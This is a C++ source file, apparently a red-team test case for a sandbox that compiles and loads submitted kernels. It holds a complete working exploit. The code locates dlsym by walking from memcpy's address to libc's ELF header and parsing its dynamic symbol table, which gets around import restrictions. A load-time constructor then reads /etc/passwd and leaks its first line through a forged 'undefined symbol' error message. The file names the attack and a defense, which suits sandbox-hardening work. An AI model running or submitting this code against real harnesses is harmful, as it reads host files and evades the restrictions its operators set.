/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: smuggles a host file out through a fake load error. A constructor (it runs
// while the worker loads the library) reads /etc/passwd, prints its first line dressed
// as an identifier in the loader's own words, "undefined symbol: root_x_0_0_...", and
// exits, hoping the harness passes the "missing symbol" on to the author. Nothing
// forbidden is imported: `dlsym` is found in the C library's dynamic symbol table from
// the address of memcpy, and `open`, `read`, `write` and `_exit` through it.
// Defense: load errors are reported with names that occur in the kernel's own source
// only; anything else is "an undefined symbol".
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Open)(const char*, int, ...);
typedef long (*Read)(int, void*, unsigned long);
typedef long (*Write)(int, const void*, unsigned long);
typedef void (*Exit)(int);

__attribute__((constructor)) static void smuggle() {
    static char buf[256], line[400] = "OSError: kernel.so: undefined symbol: ";
    Open kc_open = reinterpret_cast<Open>(kc_find("open"));
    Read kc_read = reinterpret_cast<Read>(kc_find("read"));
    Write kc_write = reinterpret_cast<Write>(kc_find("write"));
    Exit kc_exit = reinterpret_cast<Exit>(kc_find("_exit"));
    if (!kc_open || !kc_read || !kc_write || !kc_exit) return;
    int fd = kc_open("/etc/passwd", 0);
    long n = fd >= 0 ? kc_read(fd, buf, 200) : 0;
    long o = 38;
    for (long i = 0; i < n && buf[i] != '\n'; ++i) {
        char c = buf[i];
        bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9');
        line[o++] = ok ? c : '_';
    }
    line[o++] = '\n';
    kc_write(2, line, o);
    kc_exit(1);
}

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    for (int64_t i = 0; i < rows; ++i) out[i] = x[i] * a + b + cols;
}
